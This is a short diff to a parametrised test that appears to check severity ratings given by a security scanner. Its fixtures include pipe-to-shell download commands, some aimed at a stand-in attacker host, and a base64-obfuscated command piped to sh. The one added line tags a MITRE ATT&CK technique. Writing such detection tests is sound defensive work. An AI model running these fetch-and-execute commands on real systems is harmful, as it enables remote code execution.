@@ -119,6 +119,7 @@ def test_what_a_shell_executes_unseen_is_named(text: str, executed: str) -> None
         (OTHER, "curl http://10.10.10.10/script.sh | bash", "high"),
         (OTHER, "curl http://attacker.com/x.sh | sh", "high"),
         (TESTING, "echo d2hvYW1p | base64 -d | sh", "info"),
+        (OTHER.replace("name:", "mitre_attack: [T1610]\nname:"), "curl http://10.1.2.3/x.sh | sh", "high"),
         (HARDENING, "curl http://10.1.2.3/harden.sh | sh", "high"),
     ],
 )
